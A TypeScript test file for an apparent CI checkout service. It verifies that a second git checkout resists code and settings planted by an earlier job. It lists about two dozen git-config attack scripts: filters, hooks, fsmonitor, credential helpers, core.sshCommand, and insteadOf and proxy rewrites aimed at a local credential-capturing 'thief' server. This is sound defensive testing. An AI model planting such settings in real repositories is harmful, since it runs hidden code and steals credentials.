// What an earlier step of the same workspace may leave for the next checkout: none of it runs, and the password goes nowhere else.

import { once } from 'node:events'
import { existsSync, readFileSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { createRepository, type GitHttp, type Repository, serveGitHttp } from '../../proto/test/git-servers.ts'
import { temporaryFolder } from './agent-process.ts'
import { type Bench, done, jobIdOf, sh, startBench } from './bench.ts'
import { Outcome } from './fake-controller.ts'

const password = 'the-password'
const root = temporaryFolder()
let project: Repository
let git: GitHttp
let thief: { url: string; heard: string[]; server: Server }
let b: Bench

beforeAll(async () => {
  createRepository(root.path, 'part')
  project = createRepository(root.path, 'project')
  project.commit('.gitattributes', '* filter=planted diff=planted\n')
  project.git('-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', join(root.path, 'part.git'), 'part')
  project.git('config', '-f', '.gitmodules', 'submodule.part.url', '../part.git')
  project.commit('.gitmodules', readFileSync(join(root.path, 'project-work/.gitmodules'), 'utf8'))
  git = await serveGitHttp(root.path, 'robot', password)
  const heard: string[] = []
  const server = createServer((request, response) => {
    heard.push(`${request.url} ${request.headers.authorization ?? ''}${request.headers['proxy-authorization'] ?? ''}`)
    response.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end()
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  thief = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard, server }
  b = await startBench()
}, 60_000)
afterAll(async () => {
  await b[Symbol.asyncDispose]()
  await git[Symbol.asyncDispose]()
  thief.server.close()
  root[Symbol.dispose]()
})

/** Each is a script that runs in the workspace after a first checkout. "$evil" is a program; it must never run. */
const filter =
  'git config filter.planted.smudge "$evil; cat"; git config filter.planted.clean "$evil; cat"; git config filter.planted.required true'
const planted: Record<string, string> = {
  'a filter in its settings': filter,
  'a filter in the settings of the working folder': `git config extensions.worktreeConfig true; git config --worktree filter.planted.smudge "$evil; cat"`,
  'a filter by include.path': `git config --file ../planted-$case filter.planted.smudge "$evil; cat"; git config include.path "$PWD/../planted-$case"`,
  'a filter by includeIf': `git config --file ../planted-$case filter.planted.smudge "$evil; cat"; git config includeIf.gitdir:/**.path "$PWD/../planted-$case"`,
  'a filter by attributes of its own': `echo '* filter=own' >.git/info/attributes; git config filter.own.smudge "$evil; cat"`,
  'a commondir': `${filter}; mkdir ../common-$case; cp -r .git/. ../common-$case; echo "$PWD/../common-$case" >.git/commondir; rm .git/config`,
  'a .git file': `${filter}; git init -q --separate-git-dir "$PWD/../separate-$case"; test -f .git`,
  'a .git that is a link': `${filter}; mv .git ../linked-$case; ln -s "$PWD/../linked-$case" .git`,
  'settings that are a link': `${filter}; mv .git/config ../config-$case; ln -s "$PWD/../config-$case" .git/config`,
  'another working folder': `git config core.worktree "$PWD/../away-$case"; mkdir ../away-$case`,
  hooks: `for hook in post-checkout post-index-change reference-transaction pre-auto-gc post-merge; do printf '#!/bin/sh\n%s\n' "$evil" >.git/hooks/$hook; chmod +x .git/hooks/$hook; done`,
  'another folder of hooks': `mkdir ../hooks-$case; printf '#!/bin/sh\n%s\n' "$evil" >../hooks-$case/post-checkout; chmod +x ../hooks-$case/post-checkout; git config core.hooksPath "$PWD/../hooks-$case"`,
  'a watcher of files': `git config core.fsmonitor "$evil"; git update-index --fsmonitor || :`,
  'a helper for credentials': `git config credential.helper "!$evil"; git config core.askPass "$evil"`,
  'programs for ssh, pager, editor, signatures': `git config core.sshCommand "$evil"; git config core.pager "$evil"; git config core.editor "$evil"; git config gpg.program "$evil"; git config log.showSignature true; git config diff.external "$evil"`,
  'a rewritten address': `git config url.$thief/.insteadOf $address/`,
  'a proxy': `git config http.proxy $thief; git config remote.origin.proxy $thief`,
  'another remote program': `git config remote.origin.uploadpack "$evil"; git config remote.origin.vcs planted`,
  'objects from elsewhere': `mkdir -p ../objects-$case; echo "$PWD/../objects-$case" >.git/objects/info/alternates; git config core.alternateRefsCommand "$evil"`,
  'settings of a submodule': `git -C part config filter.planted.smudge "$evil; cat"; git -C part config core.fsmonitor "$evil"; echo '* filter=planted' >part/.gitattributes`,
  'a submodule with a .git of its own': `rm -rf part; git clone -q "$origin/part.git" part; git -C part config core.fsmonitor "$evil"; git -C part config core.sshCommand "$evil"; git -C part config url.$thief/.insteadOf $address/`,
  'a submodule that updates itself by a program': `git config submodule.part.update "!$evil"; git config submodule.part.url $thief/part.git`,
  'an index and references of nonsense': `head -c 4000 /dev/urandom >.git/index; echo 'ref: ../../../..' >.git/HEAD; echo garbage >.git/packed-refs; touch .git/index.lock .git/config.lock`,
  'an index that calls a changed file unchanged': `echo mine >README; git update-index --assume-unchanged README; git update-index --skip-worktree .gitmodules`,
}

let number = 0
test.each(Object.entries(planted))(
  '%s',
  async (name, script) => {
    const workspace = `case-${++number}`
    const here = join(b.data, 'workspaces/run-1', workspace)
    const value = {
      url: `${git.url}/project.git`,
      username: 'robot',
      passwordSecret: 'GIT',
      submodules: true,
      depth: 1,
    }
    const checkout = (what: string) =>
      b.controller.offer(
        jobIdOf(`${workspace}-${what}`),
        { execution: { case: 'checkout', value: value as never }, workspace },
        [{ name: 'GIT', value: password }],
      )
    expect(await done(checkout('first'))).toMatchObject({ outcome: Outcome.SUCCEEDED })
    const ran = join(root.path, `ran-${number}`)
    const set = `case=${number} evil="touch ${ran}" thief=${thief.url} address=${git.url} origin=${root.path}`
    const planter = b.controller.offer(jobIdOf(`${workspace}-planter`), sh(`${set}\n${script}`, { workspace }))
    expect(await done(planter), planter.log.toString()).toMatchObject({ outcome: Outcome.SUCCEEDED })
    // What the planter's own commands have started is not the checkout's.
    rmSync(ran, { force: true })

    const commit = project.commit('README', `${name}\n`)
    const second = checkout('second')
    expect(await done(second), second.log.toString()).toMatchObject({ outcome: Outcome.SUCCEEDED, outputs: { commit } })
    expect(readFileSync(join(here, 'README'), 'utf8')).toBe(`${name}\n`)
    expect(readFileSync(join(here, 'part/README'), 'utf8')).toBe('one\n')
    expect(existsSync(ran), 'the planted program ran').toBe(false)
    expect(thief.heard).toEqual([])
  },
  60_000,
)
